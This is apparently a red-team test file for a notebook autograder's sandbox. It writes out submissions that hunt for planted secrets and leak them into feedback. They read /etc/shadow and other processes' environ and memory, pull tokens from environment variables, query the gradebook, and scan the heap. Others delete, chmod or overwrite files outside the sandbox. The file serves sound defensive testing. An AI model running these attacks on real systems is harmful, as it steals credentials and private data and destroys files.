"""Submissions that look for what is not theirs and put it wherever a student might read it later.

The test knows the planted words; these attacks know how they begin, and all paths. What they find they print, show,
raise, return and use as file names, plainly and in other spellings; the words may then be found nowhere.
"""

# ruff: noqa: E501 - attacks are written as attackers write them
from __future__ import annotations

from tests.grading.redteam.attack import Row

row = Row("theft")

LEAK = """\
import base64, os, re, sys
MARK = "CAN" + "ARY-"
OWN = MARK + "own-" + "%x" % 0xABCDEF123456
def text_of(one):
    if isinstance(one, (bytes, bytearray)):
        return bytes(one).decode("latin-1")
    try:
        return one if type(one) is str else repr(one)
    except BaseException:
        return ""
def loot():
    found = []
    try:
        for one in steal():
            text = text_of(one)
            found += re.findall(MARK + "[a-z]+-[0-9a-f]+", text) or [text[:2000]]
            if len(found) > 300:
                break
    except BaseException as error:
        found.append(f"stopped: {type(error).__name__} {error}"[:500])
    return list(dict.fromkeys(found))
def leak():
    for text in loot():
        raw = text.encode("utf-8", "replace")
        print(text, text[::-1], base64.b64encode(raw).decode(), raw.hex())
"""
FUNCTION = """\
def double(x):
    leak()
    raise ValueError(loot())"""
NORMALISE = "def normalise(a):\n    return loot()"
LAST = "leak()\nfor n, text in enumerate(loot()[:50]):\n    open(f'{n} {text[:99]}'.replace('/', '_').replace(chr(0), ''), 'w').write(text)\nos.listdir('.')"


#: What a thief has of its own and must find with the same means: a search that finds nothing at all proves nothing.
OWN = "CANARY-own-abcdef123456"


def steal(name: str, body: str, *, finds: bool = False) -> None:
    """Add a thief; `body` is that of a generator of what it found; `finds` if it comes by what is its own, too."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    code = f"{LEAK}\ndef steal():\n{lines}\n    yield 'the end'\nleak()"
    row.wrong(
        name, code, answers={"double": FUNCTION, "normalise": NORMALISE}, last=(LAST,), files={"own.txt": OWN},
        finds=OWN if finds else "",
    )  # fmt: skip


READ = """
def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError as error:
        return ""
def walk(top, most=3000):
    for folder, folders, files in os.walk(top):
        for name in files:
            most -= 1
            if most < 0:
                return
            yield os.path.join(folder, name)
"""


def paths(*names: str) -> str:
    return READ + "\n".join(
        f"yield read({name!r})\nfor path in walk({name!r}):\n    yield path\n    yield read(path)"
        for name in names
    )


# Files.
steal("files-of-the-course", paths("@COURSE@", "@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py"))
steal("files-of-the-home", paths("@HOME@", "@HOME@/secret.txt", "~", "/root", "/home"))
steal(
    "files-anywhere",
    paths(
        "@OUTSIDE@",
        "@OUTSIDE@/canary.txt",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/var/tmp",
        "/dev/shm",
        ".",
    ),
    finds=True,
)
steal("files-in-tmp", paths("/tmp", "/tmp/digital-biopsy-", "..", "../..", "../released", "../zygote.log"))
steal(
    "files-by-open-folders",
    READ
    + """
for fd in range(256):
    for path in ("exercises.ipynb", "canary.txt", "../gradebook.db", "../../zygote.log", "secret.txt"):
        try: yield os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 9999)
        except OSError: pass
    for way in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
        try: yield os.readlink(way)
        except OSError: pass
        try: yield os.read(os.open(way, os.O_RDONLY | os.O_NONBLOCK), 9999)
        except OSError: pass""",
)
steal(
    "files-by-links",
    """
import os
for make in (os.symlink, os.link):
    for target in ("@COURSE@/source/redteam/exercises.ipynb", "@HOME@/secret.txt", "/proc/@VICTIM@/environ"):
        try:
            make(target, "linked")
            yield open("linked", "rb").read()
        except OSError as error: pass
for call in (lambda: os.rename("@OUTSIDE@/canary.txt", "moved"), lambda: os.rename("@HOME@/secret.txt", "moved"),
             lambda: __import__("shutil").copytree("@COURSE@", "copied"), lambda: os.chdir("@COURSE@"), lambda: os.chroot("..")):
    try: call()
    except OSError: pass
    except Exception: pass
try: yield open("moved").read()
except OSError: pass""",
)
steal(
    "files-written-outside",
    """
import os, shutil
for path in ("@OUTSIDE@/new", "@OUTSIDE@/canary.txt", "@HOME@/secret.txt", "@HOME@/.bashrc", "@COURSE@/gradebook.db",
             "@COURSE@/nbgrader_config.py", "@COURSE@/source/redteam/exercises.ipynb", "/tmp/redteam-was-here", "/dev/shm/redteam",
             "@COURSE@/autograded/honest-right/redteam/exercises.ipynb", "@COURSE@/submitted/honest-right/redteam/exercises.ipynb"):
    for mode in ("w", "a", "r+", "x"):
        try: open(path, mode).write("changed")
        except OSError: pass
    for call in (os.remove, os.rmdir, shutil.rmtree, lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)),
                 lambda p: os.chown(p, 1, 1), lambda p: os.truncate(p, 0), lambda p: os.mkdir(p), lambda p: os.mkfifo(p),
                 lambda p: os.setxattr(p, "user.x", b"x"), lambda p: os.rename(p, "stolen"), lambda p: os.rename("data", p)):
        try: call(path)
        except OSError: pass
yield "tried" """,
)
steal(
    "files-of-the-package",
    READ
    + """
import autograder, digital_biopsy, nbgrader, importlib, importlib.resources
for package in (autograder, digital_biopsy, nbgrader):
    for folder in list(package.__path__):
        for path in walk(folder, 400):
            if "autograder" in folder or path.endswith((".db", ".ipynb", ".env")):
                yield read(path)
for name in ("answers", "solutions", "autograder.answers", "autograder.sources", "autograder.course", "autograder.gradebook", "tests"):
    try:
        module = importlib.import_module(name)
        yield list(vars(module).values())
    except BaseException: pass""",
)
steal(
    "gradebook-by-its-library",
    """
import sqlite3
for path in ("@COURSE@/gradebook.db", "file:@COURSE@/gradebook.db?immutable=1"):
    try: yield list(sqlite3.connect(path, uri=True).execute("select * from student"))
    except Exception as error: pass
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
        yield [(s.id, s.last_name) for s in book.students]
        book.add_student("thief")
except BaseException: pass""",
)

# Other processes.
steal(
    "proc-of-others",
    READ
    + """
pids = [os.getpid(), os.getppid(), @VICTIM@, 1, *range(max(1, os.getpid() - 60), os.getpid() + 20)]
for pid in ["self", "thread-self", *pids]:
    for name in ("environ", "cmdline", "maps", "mem", "status", "cwd/exercises.ipynb", "root/etc/passwd", "fd/3", "stack", "auxv"):
        yield read(f"/proc/{pid}/{name}")
    try: yield os.listdir(f"/proc/{pid}/fd")
    except OSError: pass
yield read("/proc/mounts"), read("/proc/keys"), read("/proc/kcore"), read("/proc/sched_debug")""",
)
steal(
    "memory-of-others",
    """
import ctypes, os
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
if os.fork() == 0:  # the filter ends who calls this
    buffer = ctypes.create_string_buffer(1 << 16)
    here, there = Vec(ctypes.addressof(buffer), 1 << 16), Vec(id(MARK) & ~4095, 1 << 16)
    ctypes.CDLL(None).process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    open("stolen", "wb").write(buffer.raw)
    os._exit(0)
os.wait()
try: yield open("stolen", "rb").read()
except OSError: pass""",
)
steal(
    "pidfd-of-others",
    """
import os
for pid in (os.getppid(), @VICTIM@, 1):
    try:
        fd = os.pidfd_open(pid)
        yield fd
    except OSError as error: yield error""",
)
steal(
    "core-dump",
    READ
    + """
import resource
try: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except (ValueError, OSError): pass
if os.fork() == 0:
    os.abort()
os.wait()
for path in walk("."):
    if "core" in path:
        yield read(path)""",
)

# This process.
steal(
    "environment",
    """
import ctypes, os
yield dict(os.environ)
yield os.environb
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
n = 0
while environ[n]:
    yield environ[n]
    n += 1
for name in ("GRADER_TOKEN", "DATABASE_URL", "HOME", "PATH", "PGPASSWORD"):
    yield os.getenv(name)
yield sys.orig_argv, sys.argv, sys.path, sys.flags""",
)
steal(
    "history-and-linecache",
    """
import linecache
shell = get_ipython()
for name in ("In", "Out", "_ih", "_oh", "_i", "_ii", "_iii", "_dh"):
    yield shell.user_ns.get(name)
yield list(linecache.cache.values())
try: yield list(shell.history_manager.get_range())
except Exception: pass
yield vars(shell.history_manager), shell.user_global_ns, shell.last_execution_result, shell.db""",
    finds=True,
)
steal(
    "frames",
    """
import inspect, sys, threading, traceback
frame = sys._getframe()
while frame:
    yield frame.f_locals, frame.f_globals, frame.f_code.co_consts
    frame = frame.f_back
for frame in sys._current_frames().values():
    yield frame.f_locals
try: 1 / 0
except ZeroDivisionError as error: yield traceback.extract_stack(), error.__traceback__.tb_frame.f_locals""",
    finds=True,
)
steal(
    "garbage-collector",
    """
import gc
def read_all(): pass
gc.unfreeze()
for one in gc.get_objects():
    if isinstance(one, str):
        if MARK in one: yield one
    elif isinstance(one, (dict, list, tuple, set)):
        try:
            for part in (list(one.values()) if isinstance(one, dict) else list(one)):
                if isinstance(part, (str, bytes)) and MARK in text_of(part): yield part
        except RuntimeError: pass
    elif type(one) is type(read_all):
        for part in one.__code__.co_consts:
            if isinstance(part, str) and MARK in part: yield part""",
    finds=True,
)
steal(
    "modules",
    """
import sys
for name, module in list(sys.modules.items()):
    for key, value in list(getattr(module, "__dict__", {}).items()):
        if isinstance(value, (str, bytes, dict, list, tuple)):
            try: text = repr(value)
            except BaseException: continue
            if MARK in text: yield text""",
    finds=True,
)
# write(2) from an address that is not mapped fails with EFAULT, so memory can be searched without a crash.
SCAN = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
libc.sbrk.restype = ctypes.c_void_p
reader, writer = os.pipe()
os.set_blocking(reader, False)
def page(address):
    return os.read(reader, 65536) if libc.write(writer, address, 65536) > 0 else b""
def scan(start, size):
    for address in range(max(start, 65536) & ~65535, start + size, 65536):
        data = page(address)
        place = data.find(MARK.encode())
        while place >= 0:
            yield data[place:place + 60]
            place = data.find(MARK.encode(), place + 1)
"""
steal("heap", SCAN + "top = libc.sbrk(0)\nyield from scan(top - (96 << 20), 96 << 20)")
steal(
    "memory-around-objects",
    SCAN
    + """
import gc
places = {id(one) >> 21 for one in gc.get_objects()[::50]} | {id(one) >> 21 for one in (sys, MARK, OWN, None, 4, "a", b"", [])}
for place in sorted(places)[-150:]:
    yield from scan((place - 1) << 21, 3 << 21)""",
    finds=True,
)
steal(
    "stack-and-start-of-memory",
    SCAN
    + """
here = ctypes.addressof(ctypes.c_int())
for start in (0x7ffffffde000 - (8 << 20), 0x7ffff0000000, 0x555555554000):
    yield from scan(start, 16 << 20)
yield from scan(here - (32 << 20), 64 << 20)""",
)
steal(
    "pipes-of-later-questions",
    """
import os, stat
for fd in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.set_blocking(fd, False)
            try: yield os.read(fd, 1 << 20)
            finally: os.set_blocking(fd, True)
    except OSError: pass""",
)
steal(
    "names-of-the-checker",
    """
import builtins
shell = get_ipython()
for name in ("SECRET", "wanted", "refused", "c", "score", "rng", "sample", "check", "double", "lines", "kept"):
    yield shell.user_ns.get(name, ""), getattr(builtins, name, "")
yield sorted(shell.user_ns), shell.user_ns_hidden""",
)

# What the checker hands over: its arguments are the student's to see, but they must not get into the feedback.
row.wrong(
    "hidden-inputs-printed",
    answers={
        "double": "def double(x):\n    print('asked:', repr(x))\n    raise ValueError(f'asked: {x!r}')",
        "window": "def window(hu, low, high):\n    print('asked:', hu)\n    return float(hu)",
        "mean-of": "def mean_of(values):\n    print('asked:', values)\n    return values",
        "dose": "def checked_dose(dose):\n    import warnings\n    warnings.warn(f'asked: {dose}')\n    return dose",
    },
)
row.wrong(
    "hidden-inputs-kept",
    answers={
        "double": "asked = []\ndef double(x):\n    open('asked.txt', 'a').write(f'double asked: {x!r}\\n')\n    return {2: 4, -1.5: -3.0}.get(x, 0)",
        "window": "def window(hu, low, high):\n    open('asked.txt', 'a').write(f'window asked: {hu!r}\\n')\n    return -1.0",
        "mean-of": "print(open('asked.txt').read())\ndef mean_of(values):\n    open('asked.txt', 'a').write(f'mean asked: {values!r}\\n')\n    return -1.0",
    },
    last=("print(open('asked.txt').read())",),
)
row.wrong(
    "arguments-searched",
    answers={
        "double": """\
def double(x):
    import gc, sys
    seen = [x, type(x), vars(type(x)) if hasattr(type(x), '__dict__') else '', gc.get_referrers(x)]
    frame = sys._getframe()
    while frame:
        seen += [frame.f_code.co_filename, frame.f_lineno, list(frame.f_locals.values())]
        frame = frame.f_back
    text = repr(seen)
    open('seen.txt', 'a').write(text)
    raise ValueError(text[:5000])"""
    },
    last=("print(open('seen.txt').read()[:20000])",),
)
